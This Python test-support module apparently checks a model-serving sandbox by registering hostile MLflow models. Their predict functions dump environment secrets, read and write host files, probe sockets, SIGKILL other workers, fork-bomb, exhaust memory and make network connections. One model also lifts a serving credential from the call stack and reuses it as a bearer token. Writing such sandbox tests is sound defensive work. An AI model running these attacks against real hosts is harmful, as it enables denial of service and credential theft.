"""Hostile models: pyfuncs whose ``predict`` attacks the host the way a malicious version would,
and answers with a JSON report of what it managed (``[report]``, one string).

Each attack is told what to try in its input (a ``target`` column), never more than a user who
registers a version could know or guess. The attacks that could hurt the machine when the
sandbox is missing (signals, forks) refuse to run as root and report so.
"""

from __future__ import annotations

import json
import warnings
from typing import Any

import mlflow
from mlflow.models import ModelSignature
from mlflow.types import ColSpec, Schema

ATTACKS = ("env", "files", "sockets", "signals", "fork", "memory", "network")


def _attack(kind: str, targets: list[str]) -> dict[str, Any]:  # noqa: C901 - one per attack
    """What runs inside the worker (shipped by value with the model, standard library only)."""
    import contextlib
    import glob
    import os
    import signal
    import socket
    import struct
    import time

    me = os.getuid()
    report: dict[str, Any] = {"uid": me, "gid": os.getgid(), "groups": os.getgroups()}
    argv = open("/proc/self/cmdline", "rb").read().decode().split("\0")  # noqa: SIM115
    served = "regserve.worker" in argv or argv[0].startswith("ray::")  # a Ray replica
    if not served:  # MLflow trying the model while logging it, say
        return {**report, "error": "not in a regserve worker"}
    model_path = argv[argv.index("--model-path") + 1] if "--model-path" in argv else ""
    socket_path = argv[argv.index("--socket") + 1] if "--socket" in argv else ""
    data_dir = model_path.split("/models/")[0] if "/models/" in model_path else ""
    report["data_dir"] = data_dir
    if kind == "env":
        report["environ"] = dict(os.environ)
    elif kind == "files":
        readable, refused, walked = [], [], []
        candidates = list(targets)
        for root, _dirs, files in os.walk(data_dir, onerror=lambda e: refused.append(e.filename)):
            walked.append(root)
            candidates += [os.path.join(root, name) for name in files]
        for path in candidates:
            try:
                with open(path, "rb") as f:
                    f.read(16)
                readable.append(path)
            except OSError:
                refused.append(path)
        for path in targets:  # writing: as bad as reading, or worse
            with contextlib.suppress(OSError), open(path, "ab"):
                readable.append(f"written:{path}")
        report.update(readable=readable, refused=refused, walked=walked)
    elif kind == "sockets":
        run_dir = os.path.dirname(os.path.dirname(socket_path))
        found = set(targets)
        for base in (data_dir, run_dir, "/tmp"):
            found |= set(glob.glob(f"{base}/**/*.sock", recursive=True))
        answered, refused = [], []
        for path in sorted(found):
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                    sock.settimeout(2)
                    sock.connect(path)
                    sock.sendall(struct.pack("!IQB", 0, 7, 3))  # a PING frame
                    if sock.recv(13):
                        answered.append(path)
                    else:
                        refused.append(path)
            except OSError as exc:
                refused.append(f"{path}: {exc}")
        report.update(answered=answered, refused=refused, tried=len(found))
    elif kind == "signals":
        if me == 0:
            return {**report, "error": "running as root: not attacking the host"}
        killed, refused = [], 0
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            try:
                if os.stat(f"/proc/{entry}").st_uid == me:
                    continue  # its own processes: that is not an attack on anyone else
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    if b"regserve" not in f.read():
                        continue
                os.kill(int(entry), signal.SIGKILL)
                killed.append(int(entry))
            except PermissionError:
                refused += 1
            except OSError:
                pass
        report.update(killed=killed, refused=refused)
    elif kind == "fork":
        if me == 0:
            return {**report, "error": "running as root: not attacking the host"}
        forked, error = 0, ""
        for _ in range(100_000):
            try:
                pid = os.fork()
            except OSError as exc:
                error = str(exc)
                break
            if pid == 0:
                time.sleep(600)
                os._exit(0)
            forked += 1
        report.update(forked=forked, error=error)
    elif kind == "memory":  # MiB: touch every page, hold them while answering
        held = [b"x" * (1024 * 1024) for _ in range(int(targets[0]) if targets else 1)]
        report.update(held=len(held))
    elif kind == "network":
        reached, refused = [], []
        for target in targets:
            host, _, port = target.rpartition(":")
            try:
                socket.create_connection((host, int(port)), timeout=3).close()
                reached.append(target)
            except OSError as exc:
                refused.append(f"{target}: {exc}")
        report.update(reached=reached, refused=refused)
    return report


def log_hostile_version(name: str, kind: str) -> str:
    """Register a version of ``name`` whose predict runs the ``kind`` attack."""
    assert kind in ATTACKS

    class Hostile(mlflow.pyfunc.PythonModel):  # defined here so cloudpickle ships it by value
        # No type hints: MLflow would read them as the model's signature.
        def predict(self, context, model_input, params=None):  # type: ignore[no-untyped-def]
            targets = [str(t) for t in model_input["target"]] if "target" in model_input else []
            return [json.dumps(_attack(kind, [t for t in targets if t]))]

    return _log_by_value(name, Hostile())


def _log_by_value(name: str, model: Any) -> str:
    """Register ``model`` (a pyfunc taking a ``target`` column) as a version of ``name``.
    Its functions (``_attack``, ``_steal``) are module-level: this module is shipped by value
    too, so the worker needs nothing of the tests."""
    import cloudpickle

    import tests.support.hostile as me

    cloudpickle.register_pickle_by_value(me)
    try:
        with mlflow.start_run(), warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)  # "add type hints": deliberately none
            info = mlflow.pyfunc.log_model(
                name="model",
                python_model=model,
                registered_model_name=name,
                signature=ModelSignature(inputs=Schema([ColSpec("string", "target")])),
                pip_requirements=[f"mlflow=={mlflow.__version__}", "cloudpickle", "pandas"],
            )
    finally:
        cloudpickle.unregister_pickle_by_value(me)
    return str(info.registered_model_version)


def report_of(answer: Any) -> dict[str, Any]:
    """The attack's report from a scoring answer's JSON."""
    predictions = answer["predictions"]
    return dict(json.loads(predictions[0]))


def _steal(source: dict[str, Any] | None, targets: list[str]) -> dict[str, Any]:
    """What a Ray replica's model does with the credential it found (shipped by value).

    Each target: ``files:<model>:<version>`` (the version-files route), ``<METHOD>:<path>``
    (any other route, the credential as a bearer token), or ``read:<path>`` (a file of the
    gateway's machine, read directly). The outcome of each: its status and error code, or
    ``read`` / the error."""
    import json
    import os
    import urllib.error
    import urllib.parse
    import urllib.request

    if source is None:
        return {"error": "no credential found"}
    outcomes: dict[str, Any] = {"uid": os.getuid()}
    for target in targets:
        kind, _, rest = target.partition(":")
        if kind == "read":
            try:
                with open(rest, "rb") as file:
                    file.read(16)
                outcomes[target] = "read"
            except OSError as exc:
                outcomes[target] = f"{type(exc).__name__}: {exc}"
            continue
        if kind == "files":
            name, _, version = rest.rpartition(":")
            query = urllib.parse.urlencode({"name": name, "version": version})
            kind, rest = "GET", f"/api/2.0/regserve/version-files?{query}"
        body = b"{}" if kind != "GET" else None
        request = urllib.request.Request(
            f"{source['url']}{rest}",
            data=body,
            method=kind,
            headers={
                "Authorization": f"Bearer {source['credential']}",
                "Content-Type": "application/json",
            },
        )
        try:
            with urllib.request.urlopen(request, timeout=30) as answer:
                answer.read()
                outcomes[target] = [answer.status, ""]
        except urllib.error.HTTPError as exc:
            try:
                code = json.loads(exc.read()).get("error_code", "")
            except ValueError:
                code = ""
            outcomes[target] = [exc.code, code]
    return outcomes


def log_credential_thief(name: str) -> str:
    """Register a version of ``name`` whose code, loaded in a Ray replica, takes the replica's
    version-files credential (from the replica's own arguments, up the loading call's stack)
    and whose predict uses it against the targets it is given (:func:`_steal`)."""

    class Thief(mlflow.pyfunc.PythonModel):  # defined here so cloudpickle ships it by value
        def load_context(self, context):  # type: ignore[no-untyped-def]
            import sys

            self.source = None
            frame = sys._getframe()
            while frame is not None:
                found = frame.f_locals.get("model")
                if isinstance(found, dict) and "credential" in found:
                    self.source = dict(found)
                    break
                frame = frame.f_back

        def predict(self, context, model_input, params=None):  # type: ignore[no-untyped-def]
            targets = [str(t) for t in model_input["target"]] if "target" in model_input else []
            return [json.dumps(_steal(getattr(self, "source", None), targets))]

    return _log_by_value(name, Thief())
